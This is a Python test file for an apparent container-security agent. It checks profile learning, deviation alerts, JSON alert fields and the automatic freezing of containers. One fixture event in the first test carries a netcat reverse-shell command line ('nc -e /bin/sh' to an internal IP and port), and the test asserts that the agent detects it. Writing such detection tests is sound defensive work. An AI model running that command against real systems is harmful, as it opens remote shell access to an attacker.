"""The agent's pipeline on events pushed in memory: attribution, learning, alerts, freezing."""

import asyncio
import json
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

from tests.fixtures.fakes import (
    WEB,
    WEB_1,
    WEB_2,
    FakeRecord,
    FixedIdentity,
    FlagEvents,
    QueueSensor,
    TableIdentity,
    connect_event,
    exec_event,
)
from vigil.agent import Agent
from vigil.detect.profiles import Profile, ProfileBook
from vigil.models import ContainerInfo, Event, Severity, Workload, utcnow
from vigil.record.outputs import JsonlFileOutput
from vigil.record.store import Store
from vigil.respond.responder import Responder
from vigil.respond.settings import Playbook, PlaybookMatch

FREEZE_HIGH = Playbook(
    name="freeze-high",
    match=PlaybookMatch(severities=frozenset({Severity.HIGH, Severity.CRITICAL})),
    mode="auto",
    actions=("freeze",),
)


OTHER = Workload("ops", "DaemonSet", "agent", "a")
OTHER_CONTAINER = ContainerInfo("ops-1", "a", "ops:1", "runc")


def make_agent(tmp_path: Path, identity: TableIdentity) -> tuple[Agent, QueueSensor, Path]:
    sensor = QueueSensor()
    jsonl = tmp_path / "alerts.jsonl"
    agent = Agent(
        sensor=sensor,
        identity=identity,
        profiles=ProfileBook(learning_period=None),
        responder=Responder([FREEZE_HIGH], identity),
        store=Store.open(tmp_path / "data"),
        outputs=[JsonlFileOutput(jsonl)],
    )
    return agent, sensor, jsonl


def fixture_freezer(tmp_path: Path, name: str) -> Path:
    freezer = tmp_path / "cgroup" / "freezer" / name
    freezer.mkdir(parents=True)
    (freezer / "freezer.state").write_text("THAWED\n")
    return freezer


def test_deviation_alert_json_and_freeze(tmp_path: Path) -> None:
    freezer = fixture_freezer(tmp_path, "web-2")
    identity = TableIdentity(
        by_cgroup={100: FixedIdentity(WEB_1, WEB), 200: FixedIdentity(WEB_2, WEB)},
        records={"web-2": FakeRecord({"freezer": str(freezer)})},
    )
    agent, sensor, jsonl = make_agent(tmp_path, identity)

    async def scenario() -> None:
        stop = asyncio.Event()
        task = asyncio.create_task(agent.run(stop))
        await agent.ready.wait()
        sensor.push(exec_event("/bin/sh", cgroup_id=100))
        sensor.push(connect_event("10.0.0.7", 5432, cgroup_id=200))
        sensor.push(exec_event("/usr/bin/ssh", cgroup_id=999))  # the host: never profiled
        while sensor.queue.qsize():
            await asyncio.sleep(0.01)
        agent.lock(None)
        sensor.push(exec_event("/bin/nc", cgroup_id=200, cmdline="nc -e /bin/sh 10.9.9.9 4444"))
        sensor.push(connect_event("10.9.9.9", 4444, cgroup_id=200))
        sensor.push(exec_event("/bin/nc", cgroup_id=100))  # known now: reported once only
        sensor.close()
        await task

    asyncio.run(scenario())
    alerts = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert [a["rule"] for a in alerts] == ["profile.new_executable", "profile.new_destination"]
    exe_alert, dest_alert = alerts
    for key in (
        "id",
        "time",
        "kind",
        "rule",
        "severity",
        "message",
        "mitre",
        "container",
        "workload",
        "process",
        "response",
    ):
        assert key in exe_alert
    assert exe_alert["kind"] == "deviation"
    assert exe_alert["time"].endswith("Z")
    assert exe_alert["severity"] == "high"
    assert exe_alert["container"] == {
        "id": "web-2",
        "name": "nginx",
        "image": "nginx:1.27",
        "runtime": "runc",
    }
    assert exe_alert["workload"] == {
        "namespace": "shop",
        "kind": "Deployment",
        "name": "web",
        "container": "nginx",
        "inferred": True,
    }
    assert exe_alert["process"]["exe"] == "/bin/nc"
    assert exe_alert["process"]["cmdline"] == "nc -e /bin/sh 10.9.9.9 4444"
    (action,) = exe_alert["response"]["actions"]
    assert action["action"] == "freeze" and action["outcome"] == "done"
    assert (freezer / "freezer.state").read_text() == "FROZEN"
    assert dest_alert["network"] == {
        "protocol": "tcp",
        "family": "ipv4",
        "dest_ip": "10.9.9.9",
        "dest_port": 4444,
    }
    assert dest_alert["response"] == {"playbook": None, "actions": []}
    # the store holds the same alerts, and the profile with its state
    stored = agent.store.alerts()
    assert {a["id"] for a in stored} == {a["id"] for a in alerts}
    (profile,) = agent.store.load_profiles()
    assert profile.state.value == "locked"


def test_freeze_of_unknown_container_is_recorded_as_failed(tmp_path: Path) -> None:
    identity = TableIdentity(by_cgroup={100: FixedIdentity(WEB_1, WEB)})
    agent, _, jsonl = make_agent(tmp_path, identity)

    async def scenario() -> None:
        await agent.handle(exec_event("/bin/sh"))
        agent.lock(None)
        await agent.handle(exec_event("/bin/nc"))

    asyncio.run(scenario())
    (alert,) = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert alert["response"]["actions"][0]["outcome"] == "failed"
    assert "no longer known" in alert["response"]["actions"][0]["detail"]


def test_one_bad_event_does_not_stop_the_agent(tmp_path: Path) -> None:
    class Flaky(TableIdentity):
        def resolve(
            self, cgroup_id: int, pid: int, *, recheck: bool = False, settle: bool = False
        ) -> FixedIdentity:
            if pid == 666:
                raise RuntimeError("boom")
            return super().resolve(cgroup_id, pid, recheck=recheck)

    agent, sensor, _ = make_agent(tmp_path, Flaky(by_cgroup={100: FixedIdentity(WEB_1, WEB)}))

    async def scenario() -> None:
        stop = asyncio.Event()
        task = asyncio.create_task(agent.run(stop))
        sensor.push(exec_event("/bin/sh", pid=666))
        sensor.push(exec_event("/bin/sh", pid=1))
        sensor.close()
        await task

    asyncio.run(scenario())
    assert agent.events_failed == 1
    assert agent.profiles.all()[0].executables == {"/bin/sh"}


def test_profile_hooks_see_loaded_and_changed_profiles_and_record_marks_partial(
    tmp_path: Path,
) -> None:
    seen: list[tuple[str, str, frozenset[str]]] = []

    def profile_changed(profile: Profile) -> None:
        seen.append((profile.key, str(profile.state), frozenset(profile.executables)))

    @dataclass(frozen=True)
    class Record:
        created: object

    @dataclass(frozen=True)
    class WithRecord(FixedIdentity):
        record: Record | None = None

    class OldContainers(TableIdentity):
        def resolve(
            self, cgroup_id: int, pid: int, *, recheck: bool = False, settle: bool = False
        ) -> FixedIdentity:
            # identity's runtime record: the container was created an hour before the agent
            return WithRecord(WEB_1, WEB, record=Record(utcnow() - timedelta(hours=1)))

    sensor = QueueSensor()
    store = Store.open(tmp_path / "data")
    stored = ProfileBook(learning_period=None)
    stored.observe(replace(exec_event("/bin/true"), container=OTHER_CONTAINER, workload=OTHER))
    stored.lock_all()
    store.save_profiles(stored.take_dirty())
    identity = OldContainers()
    agent = Agent(
        sensor=sensor,
        identity=identity,
        profiles=ProfileBook(learning_period=None, profiles=store.load_profiles()),
        responder=Responder([], identity),
        store=store,
        outputs=[],
        profile_hooks=[profile_changed],
    )

    async def scenario() -> None:
        stop = asyncio.Event()
        task = asyncio.create_task(agent.run(stop))
        await agent.ready.wait()
        sensor.push(exec_event("/bin/sh"))
        while sensor.queue.qsize():
            await asyncio.sleep(0.01)
        agent.lock("web")
        sensor.close()
        await task

    asyncio.run(scenario())
    assert seen[0] == (OTHER.key, "locked", frozenset({"/bin/true"}))  # at attach
    assert (WEB.key, "locked", frozenset({"/bin/sh"})) in seen
    web = agent.profiles.get(WEB.key)
    assert web is not None and web.partial is True


def test_agent_remembers_in_the_kernel_only_execs_found_allowed(tmp_path: Path) -> None:
    class VerdictSensor(QueueSensor):
        """Where an eBPF sensor would write the exec's kernel hash into its allowed map."""

        def __init__(self) -> None:
            super().__init__()
            self.remembered: list[str] = []

        def remember_exec(self, event: Event) -> None:
            self.remembered.append(event.process.cmdline)

    sensor = VerdictSensor()
    identity = TableIdentity(by_cgroup={100: FixedIdentity(WEB_1, WEB)})
    agent = Agent(
        sensor=sensor,
        identity=identity,
        profiles=ProfileBook(learning_period=None),
        responder=Responder([], identity),
        store=Store.open(tmp_path / "data"),
        outputs=[],
        detectors=[
            FlagEvents("Flagged command", lambda e: "flagged" in e.process.cmdline, Severity.LOW)
        ],
    )

    async def scenario() -> None:
        stop = asyncio.Event()
        task = asyncio.create_task(agent.run(stop))
        await agent.ready.wait()
        for cmdline in ("/bin/sh -c backup", "/bin/sh -c flagged"):  # learning
            await agent.handle(exec_event("/bin/sh", cmdline=cmdline))
        agent.lock("web")
        for cmdline in (
            "/bin/sh -c backup",  # allowed: remembered
            "/bin/sh -c flagged",  # in the profile, but a rule matches it
            "/bin/sh -c restore",  # new arguments: a deviation
        ):
            await agent.handle(exec_event("/bin/sh", cmdline=cmdline))
        await agent.handle(exec_event("/bin/nc"))  # a new program
        stop.set()
        await task

    asyncio.run(scenario())
    assert sensor.remembered == ["/bin/sh -c backup"]
